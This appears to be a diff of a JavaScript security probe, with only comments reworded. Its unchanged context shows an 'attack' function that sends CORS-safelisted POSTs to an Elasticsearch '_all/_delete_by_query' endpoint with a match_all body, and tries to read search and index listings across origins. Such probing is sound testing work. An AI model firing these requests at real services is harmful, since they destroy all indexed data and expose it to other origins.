@@ -5,7 +5,7 @@ const everything = '{"query":{"match_all":{}}}';
 const deletion = '/_all/_delete_by_query?conflicts=proceed&refresh';
 const paths = ['/_search?q=*', '/_cat/indices', '/kafkainsight-local?list-type=2', '/'];
 
-/** What could be read of an address of another origin; what is written is looked for afterwards. */
+/** What could be read from another origin; what was written is checked afterwards. */
 async function attack(address) {
   const read = [];
   const readable = async (path, options) => {
@@ -16,7 +16,7 @@ async function attack(address) {
     );
     if (text !== '') read.push(`${path}: ${text.slice(0, 200)}`);
   };
-  // "simple" requests (Fetch standard, CORS-safelisted): the browser sends them without asking
+  // "simple" requests (Fetch standard, CORS-safelisted): the browser sends them without a preflight
   const simple = { method: 'POST', headers: { 'content-type': 'text/plain' }, body: everything };
   await readable(deletion, { ...simple, mode: 'no-cors' });
   await readable(deletion, simple);
@@ -57,7 +57,7 @@ function ended(element) {
   });
 }
 
-/** The statuses of what a page asks of its own origin. */
+/** The statuses of a page's requests to its own origin. */
 async function sameOrigin() {
   const json = { headers: { 'content-type': 'application/json' }, body: everything };
   const questions = [
